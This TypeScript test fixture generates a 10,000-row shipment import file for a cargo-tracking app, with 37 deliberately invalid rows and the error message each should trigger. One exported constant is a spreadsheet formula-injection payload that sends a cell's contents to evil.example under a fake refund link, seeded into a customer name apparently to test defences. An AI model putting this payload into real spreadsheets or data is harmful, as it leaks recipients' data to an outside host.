import { IMPORT_MSG, MSG, PACKAGE_STATUSES, type ImportRow } from '@cargo/shared';

/** US addresses with ZIPs, so the bundled geocoder places every one. */
const ADDRESSES = [
  '233 S Wacker Dr, Chicago, IL 60606',
  '700 N Art Museum Dr, Milwaukee, WI 53202',
  '1 Infinite Loop, Cupertino, CA 95014',
  '350 5th Ave, New York, NY 10118',
  '600 Congress Ave, Austin, TX 78701',
  '1600 Pennsylvania Ave NW, Washington, DC 20500',
  '400 Broad St, Seattle, WA 98109',
  '2 15th St NW, Washington, DC 20024',
  '100 Universal City Plaza, Universal City, CA 91608',
  '1 Market St, San Francisco, CA 94105',
];

export const HYPERLINK_CELL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")';

/** A row's cells before mapping: every field a good row has. */
function goodValues(tag: string, i: number): ImportRow['values'] {
  return {
    trackingNumber: `${tag}-${String(i).padStart(5, '0')}`,
    status: i % 7 === 0 ? 'In Transit' : 'processing',
    customerName: i === 3 ? HYPERLINK_CELL : `Customer ${i}`,
    customerPhone: `(312) 555-${String(i % 10000).padStart(4, '0')}`,
    customerEmail: i % 3 === 0 ? `customer${i}@example.com` : '',
    pickupAddress: ADDRESSES[i % ADDRESSES.length]!,
    deliveryAddress: ADDRESSES[(i * 7 + 3) % ADDRESSES.length]!,
    estimatedDelivery: '2026-12-01',
    serviceType: i % 2 ? 'Express' : '',
    weight: `${(i % 40) + 1} lbs`,
    itemDescription: 'Boxed goods',
  };
}

/**
 * The bad rows, of varied kinds, each with the message the report must give (the package schema's, spec §5, or the
 * import's own for a tracking number repeated in the file). `line` is set when placed.
 */
const BAD_KINDS: Array<{ count: number; spoil: (v: ImportRow['values'], firstLineOf: (i: number) => number, i: number) => void; message: (firstLineOf: (i: number) => number, i: number) => string }> = [
  { count: 5, spoil: (v) => void (v.trackingNumber = '   '), message: () => MSG.trackingRequired },
  { count: 3, spoil: (v) => void (v.trackingNumber = `${v.trackingNumber}-${'X'.repeat(60)}`), message: () => MSG.trackingTooLong },
  { count: 4, spoil: (v) => void (v.customerName = ''), message: () => MSG.customerNameRequired },
  { count: 3, spoil: (v) => void delete v.customerPhone, message: () => MSG.customerPhoneRequired },
  { count: 3, spoil: (v) => void (v.customerPhone = '+1 312 555 0100 ext 12345'), message: () => MSG.phoneTooLong },
  { count: 5, spoil: (v) => void (v.customerEmail = 'not-an-email'), message: () => MSG.invalidEmail },
  { count: 4, spoil: (v) => void (v.status = 'lost at sea'), message: () => `${MSG.invalidStatus}. Allowed: ${PACKAGE_STATUSES.join(', ')}` },
  { count: 3, spoil: (v) => void (v.deliveryAddress = ''), message: () => MSG.deliveryAddressRequired },
  { count: 2, spoil: (v) => void (v.pickupAddress = ' '), message: () => MSG.pickupAddressRequired },
  { count: 3, spoil: (v) => void ((v.deliveryLat = '123.5'), (v.deliveryLng = '-87.9')), message: () => MSG.invalidLatitude },
  // A tracking number that an earlier row of the file already has.
  { count: 2, spoil: (v, _f, i) => void (v.trackingNumber = v.trackingNumber!.replace(/\d+$/, String(i - 100).padStart(5, '0'))), message: (firstLineOf, i) => IMPORT_MSG.duplicateInFile(firstLineOf(i - 100)) },
];

export interface ImportFile {
  rows: ImportRow[];
  /** The bad rows' lines and the message each must be reported with. */
  bad: Map<number, string>;
  goodCount: number;
}

/** `total` rows (line 2 onwards; line 1 is the header) of which 37 are bad, spread through the file. */
export function importFile(tag: string, total = 10_000): ImportFile {
  const rows: ImportRow[] = [];
  const bad = new Map<number, string>();
  const badCount = BAD_KINDS.reduce((n, k) => n + k.count, 0);
  // Spread through the file, far enough apart that a repeated tracking number (100 rows back) is a good row's.
  const step = Math.floor((total - 200) / badCount);
  if (step <= 100) throw new Error('importFile needs at least 4,000 rows');
  const lineOf = (i: number) => i + 2;
  const badAt = new Map<number, (typeof BAD_KINDS)[number]>();
  let slot = 0;
  for (const kind of BAD_KINDS) for (let c = 0; c < kind.count; c += 1) badAt.set(150 + slot++ * step, kind);
  for (let i = 0; i < total; i += 1) {
    const values = goodValues(tag, i);
    const kind = badAt.get(i);
    if (kind) {
      kind.spoil(values, lineOf, i);
      bad.set(lineOf(i), kind.message(lineOf, i));
    }
    rows.push({ line: lineOf(i), values });
  }
  return { rows, bad, goodCount: total - bad.size };
}

